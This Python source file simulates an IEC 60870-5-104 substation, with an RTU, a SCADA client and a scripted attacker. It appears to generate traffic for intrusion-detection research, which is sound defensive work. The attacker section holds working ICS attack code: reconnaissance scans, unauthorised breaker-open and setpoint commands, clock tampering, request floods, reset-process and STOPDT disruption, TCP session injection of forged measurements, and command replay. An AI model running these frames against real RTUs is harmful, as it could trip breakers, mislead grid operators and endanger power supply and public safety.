"""IEC 60870-5-104 on c104 (Python bindings of lib60870-C): an RTU (server) reporting measurements
spontaneously (cause 3) as a simulated feeder moves, one periodic point (cause 1), a breaker with a
select-and-execute command; a SCADA client (c104) with general interrogation, clock sync and the
operator's commands; the link mechanics (S-frames, TESTFR, k/w, t1-t3) are lib60870's own.  The
attacker speaks raw APCI/ASDU with sequence numbers of its own."""

import logging
import random
import struct
import time

from common import (
    ATTACKER,
    DEVICES,
    MASTER,
    SCAN_PORTS,
    LoopTap,
    attacker_socket,
    echo_timestamps,
    log,
    port_scan,
)

RTU, PORT = DEVICES["iec104"]
CA = 1
IOA_MEAS = (1001, 1002, 1003, 1004)  # bus voltage, current, frequency, power
IOA_TEMP = 1010  # transformer temperature, reported periodically
IOA_BREAKER, IOA_BREAKER_CMD = 2001, 5001
IOA_SETPOINT = 6001
GI_EVERY = 120.0


def requirement() -> str | None:
    try:
        import c104  # noqa: F401
    except ImportError:
        return "c104 is not installed (pip install -e '.[realstack]')"
    return None


# --- RTU -------------------------------------------------------------------------------------------


def server(seed: int, command_every: float) -> None:
    import c104

    rng = random.Random(seed)
    srv = c104.Server(ip=RTU, port=PORT, tick_rate_ms=100)
    st = srv.add_station(common_address=CA)
    meas = [st.add_point(io_address=a, type=c104.Type.M_ME_NC_1) for a in IOA_MEAS]
    temp = st.add_point(io_address=IOA_TEMP, type=c104.Type.M_ME_NC_1, report_ms=15000)
    breaker = st.add_point(io_address=IOA_BREAKER, type=c104.Type.M_SP_NA_1)
    cmd = st.add_point(
        io_address=IOA_BREAKER_CMD,
        type=c104.Type.C_SC_NA_1,
        related_io_address=IOA_BREAKER,
        related_io_autoreturn=True,
        command_mode=c104.CommandMode.SELECT_AND_EXECUTE,
    )
    setpoint = st.add_point(io_address=IOA_SETPOINT, type=c104.Type.C_SE_NC_1)
    breaker.value = True
    temp.value = 45.0
    state = {"setpoint": 11000.0}

    # c104 checks the callbacks' annotations
    def on_breaker(
        point: c104.Point, previous_info: c104.Information, message: c104.IncomingMessage
    ) -> c104.ResponseState:
        breaker.value = bool(point.value)
        return c104.ResponseState.SUCCESS

    def on_setpoint(
        point: c104.Point, previous_info: c104.Information, message: c104.IncomingMessage
    ) -> c104.ResponseState:
        state["setpoint"] = float(point.value)
        return c104.ResponseState.SUCCESS

    cmd.on_receive(callable=on_breaker)
    setpoint.on_receive(callable=on_setpoint)
    srv.start()
    volts, amps, hz = 11000.0, 240.0, 50.0
    sent = [None] * 4
    bands = (25.0, 3.0, 0.02, 60.0)
    while True:  # the process: report a measurement when it moved past its deadband (cause 3)
        volts += 0.2 * (state["setpoint"] - volts) + rng.gauss(0, 8)
        amps = max(0.0, amps + rng.gauss(0, 1.5))
        hz = 50.0 + 0.9 * (hz - 50.0) + rng.gauss(0, 0.01)
        temp.value = 45.0 + amps / 100 + rng.gauss(0, 0.1)
        for i, v in enumerate((volts, amps, hz, volts * amps * 1.732 / 1000)):
            meas[i].value = float(v)
            if sent[i] is None or abs(v - sent[i]) >= bands[i]:
                meas[i].transmit(cause=c104.Cot.SPONTANEOUS)
                sent[i] = v
        time.sleep(rng.uniform(0.3, 0.7))


# --- SCADA client ----------------------------------------------------------------------------------


def master(seed: int, command_every: float) -> None:
    import c104

    rng = random.Random(seed + 1)
    lg = logging.getLogger("master")
    client = c104.Client(tick_rate_ms=100, command_timeout_ms=5000)
    conn = client.add_connection(ip=RTU, port=PORT, init=c104.Init.ALL)  # STARTDT, GI, clock sync
    st = conn.add_station(common_address=CA)
    cmd = st.add_point(
        io_address=IOA_BREAKER_CMD, type=c104.Type.C_SC_NA_1, command_mode=c104.CommandMode.SELECT_AND_EXECUTE
    )
    sp = st.add_point(io_address=IOA_SETPOINT, type=c104.Type.C_SE_NC_1)
    last_i = [time.time()]

    def on_raw(connection: c104.Connection, data: bytes) -> None:
        if len(data) > 2 and data[2] & 1 == 0:  # an I-frame from the RTU: data transfer is running
            last_i[0] = time.time()

    conn.on_receive_raw(callable=on_raw)
    client.start()
    next_gi = time.time() + GI_EVERY
    next_cmd = time.time() + rng.uniform(0.3, 0.7) * command_every
    while True:
        time.sleep(0.5)
        try:
            if conn.state == c104.ConnectionState.OPEN_MUTED:
                # in one run of five c104 opened the connection without its STARTDT (cause not
                # found): the RTU then sends nothing and closes on the first command.  Start data
                # transfer as the Init would have, with the GI that follows it
                lg.warning("connection open without STARTDT: unmuting")
                if conn.unmute():
                    conn.interrogation(
                        common_address=CA, cause=c104.Cot.ACTIVATION, qualifier=c104.Qoi.STATION
                    )
                continue
            if conn.state != c104.ConnectionState.OPEN:
                last_i[0] = time.time()
                continue
            if time.time() - last_i[0] > 30:  # open, yet nothing for 30 s: start over with a fresh Init
                lg.warning("no I-frame from the RTU for 30 s: reconnecting")
                conn.disconnect()
                conn.connect()
                last_i[0] = time.time()
                continue
            if time.time() >= next_gi:
                conn.interrogation(common_address=CA, cause=c104.Cot.ACTIVATION, qualifier=c104.Qoi.STATION)
                next_gi = time.time() + GI_EVERY
            if time.time() >= next_cmd:
                if rng.random() < 0.5:
                    cmd.value = rng.random() < 0.8
                    cmd.transmit(cause=c104.Cot.ACTIVATION)
                else:
                    sp.value = float(rng.choice([10900, 10950, 11000, 11050, 11100]))
                    sp.transmit(cause=c104.Cot.ACTIVATION)
                next_cmd = time.time() + rng.uniform(0.5, 1.5) * command_every
        except Exception as exc:
            lg.warning("command failed: %s", exc)


# --- attacker: raw APCI ----------------------------------------------------------------------------

STARTDT_ACT, TESTFR_ACT = b"\x68\x04\x07\x00\x00\x00", b"\x68\x04\x43\x00\x00\x00"


def asdu(type_id: int, cot: int, ioa: int, element: bytes = b"", ca: int = CA, oa: int = 0) -> bytes:
    return bytes([type_id, 1, cot, oa]) + struct.pack("<H", ca) + struct.pack("<I", ioa)[:3] + element


class Session:
    """The attacker's IEC-104 connection: STARTDT, I-frames with N(S)/N(R), an S-frame every 8."""

    def __init__(self):
        self.sock = attacker_socket(RTU, PORT)
        self.vs = self.vr = self.unacked = 0
        self.buf = b""
        self.sock.sendall(STARTDT_ACT)
        self.pump(1.0)

    def send(self, body: bytes, wait: float = 0.5, first: bool = False) -> int:
        apci = struct.pack("<HH", (self.vs << 1) & 0xFFFF, (self.vr << 1) & 0xFFFF)
        self.sock.sendall(bytes([0x68, len(body) + 4]) + apci + body)
        self.vs = (self.vs + 1) % 32768
        self.unacked = 0
        return self.pump(wait, first)

    def pump(self, wait: float, first: bool = False) -> int:
        """Read what the RTU sends for ``wait`` seconds (return at a quiet moment after an I-frame,
        or with ``first`` at the first one), acknowledge every 8 I-frames; returns the I-frames read."""
        got, deadline = 0, time.time() + wait
        while time.time() < deadline:
            self.sock.settimeout(max(0.01, min(0.2, deadline - time.time())))
            try:
                data = self.sock.recv(65536)
            except TimeoutError:
                if got:
                    break
                continue
            if not data:
                break
            self.buf += data
            while len(self.buf) >= 2 and len(self.buf) >= self.buf[1] + 2:
                apdu, self.buf = self.buf[: self.buf[1] + 2], self.buf[self.buf[1] + 2 :]
                if apdu[2] & 1 == 0:  # I-frame
                    self.vr = (self.vr + 1) % 32768
                    self.unacked += 1
                    got += 1
                elif apdu[2] & 3 == 3 and apdu[2] & 0x40:  # TESTFR act: confirm it
                    self.sock.sendall(b"\x68\x04\x83\x00\x00\x00")
                if self.unacked >= 8:
                    self.ack()
            if first and got:
                break
        return got

    def ack(self):
        self.sock.sendall(b"\x68\x04\x01\x00" + struct.pack("<H", (self.vr << 1) & 0xFFFF))
        self.unacked = 0

    def close(self):
        try:
            if self.unacked:
                self.ack()
            self.sock.close()
        except OSError:
            pass


def cp56(t: float) -> bytes:
    tm = time.gmtime(t)
    ms = tm.tm_sec * 1000 + int((t % 1) * 1000)
    return struct.pack("<H", ms) + bytes(
        [tm.tm_min, tm.tm_hour, tm.tm_mday | ((tm.tm_wday + 1) << 5), tm.tm_mon, tm.tm_year % 100]
    )


def stage_recon(ctx) -> str:
    open_ports = port_scan(RTU)
    s = Session()
    answered = []
    for ca in (1, 2, 3, 4, 5, 0xFFFF):  # general interrogation of every common address, then broadcast
        if s.send(asdu(100, 6, 0, bytes([20]), ca=ca), wait=1.0):
            answered.append(ca)
    for ioa in list(range(1000, 1012)) + [2000, 2001, 5001, 6001]:  # read command over an IOA range
        s.send(asdu(102, 5, ioa), wait=0.2)
    s.send(asdu(101, 6, 0, bytes([5])), wait=0.5)  # counter interrogation
    s.close()
    return (
        f"TCP connect scan of {len(SCAN_PORTS)} ports (open: {open_ports}), general interrogation of common "
        f"addresses 1-5 and broadcast (answered: {answered}), read commands over IOA 1000-1011/2000/2001/5001/6001, "
        f"counter interrogation on {RTU}"
    )


def stage_write(ctx) -> str:
    s = Session()
    s.send(asdu(45, 6, IOA_BREAKER_CMD, bytes([0x00])), wait=1.0)  # single command OFF, direct execute
    time.sleep(0.5)
    s.send(asdu(50, 6, IOA_SETPOINT, struct.pack("<fB", 14500.0, 0)), wait=1.0)  # setpoint 14500
    time.sleep(0.5)
    s.send(asdu(103, 6, 0, cp56(time.time() - 3600)), wait=1.0)  # clock sync 1 h back
    time.sleep(2)
    s.send(asdu(50, 6, IOA_SETPOINT, struct.pack("<fB", 11000.0, 0)), wait=1.0)
    s.close()
    return (
        f"new host opens the breaker (C_SC_NA_1 direct execute on IOA {IOA_BREAKER_CMD}), sets the voltage "
        f"setpoint to 14500 (C_SE_NC_1), sets the RTU clock 1 h back (C_CS_NA_1), then restores the setpoint, on {RTU}"
    )


def stage_flood(ctx) -> str:
    s = Session()
    n, t_end = 0, time.time() + ctx.timing.flood
    while time.time() < t_end:
        n += 1
        s.send(asdu(102, 5, IOA_MEAS[n % 4]), wait=0.5, first=True)
    s.close()
    return f"request flood: {n} read commands (C_RD_NA_1) in {ctx.timing.flood:.0f} s against {RTU}"


def stage_disrupt(ctx) -> str:
    s = Session()
    s.send(asdu(105, 6, 0, bytes([1])), wait=2.0)  # reset process: general reset
    s.close()
    time.sleep(1)
    s = Session()
    s.send(asdu(105, 6, 0, bytes([2])), wait=1.0)  # reset of the event buffer
    s.sock.sendall(b"\x68\x04\x13\x00\x00\x00")  # STOPDT act
    s.pump(0.5)
    s.close()
    return f"new host sends reset process (C_RP_NA_1, general reset, then event buffer reset) and STOPDT to {RTU}"


def stage_spoof(ctx) -> str:
    """Inject forged spontaneous measurements (bus voltage frozen at 11000) into the client's session,
    spoofing the RTU: N(S) continues the RTU's own count, sent right after one of its I-frames."""
    tap = LoopTap()
    sent, t_end = 0, time.time() + max(4.0, ctx.timing.flood)
    try:
        while time.time() < t_end and sent < 5:
            seg = tap.next(lambda g: g.payload and g.src == RTU and g.dst == MASTER and g.sport == PORT, 4.0)
            if seg is None:
                continue
            p = seg.payload
            if len(p) < 6 or p[0] != 0x68 or p[2] & 1 or len(p) != p[1] + 2:  # one I-frame per segment only
                continue
            ns, nr = struct.unpack_from("<HH", p, 2)
            body = asdu(13, 3, IOA_MEAS[0], struct.pack("<fB", 11000.0, 0))
            frame = bytes([0x68, len(body) + 4]) + struct.pack("<HH", (ns + 2) & 0xFFFF, nr) + body
            tap.inject(
                RTU, MASTER, PORT, seg.dport, seg.seq + len(p), seg.ack, frame, echo_timestamps(seg.options)
            )
            sent += 1
            time.sleep(1.0)
    finally:
        tap.close()
    return f"{sent} forged spontaneous M_ME_NC_1 (bus voltage 11000) injected into the client's session from {RTU}'s address"


def stage_replay(ctx) -> str:
    frames = []
    for p in ctx.recorded:  # split segments into APDUs
        while len(p) >= 2 and p[0] == 0x68 and len(p) >= p[1] + 2:
            frames.append(p[: p[1] + 2])
            p = p[p[1] + 2 :]
    cmds = [f for f in frames if len(f) > 6 and f[2] & 1 == 0 and f[6] in (45, 46, 48, 49, 50, 103)]
    pick = [STARTDT_ACT] + cmds[-6:] + [f for f in frames if len(f) > 6 and f[2] & 1 == 0][-4:]
    s = attacker_socket(RTU, PORT)
    for f in pick:
        try:
            s.sendall(f)
        except OSError:
            break
        time.sleep(0.3)
    s.close()
    return f"replay from a new host of {len(pick)} recorded client APDUs ({len(cmds[-6:])} commands, stale N(S)/N(R)) to {RTU}"


STAGES = [
    ("recon", stage_recon, ATTACKER, RTU),
    ("unauthorised_write", stage_write, ATTACKER, RTU),
    ("flood", stage_flood, ATTACKER, RTU),
    ("dangerous_function", stage_disrupt, ATTACKER, RTU),
    ("measurement_spoofing", stage_spoof, RTU, MASTER),
    ("replay", stage_replay, ATTACKER, RTU),
]


def _main(role: str, seed: int, command_every: float) -> None:
    log("iec104", f"{role} starting")
    (server if role == "server" else master)(seed, command_every)
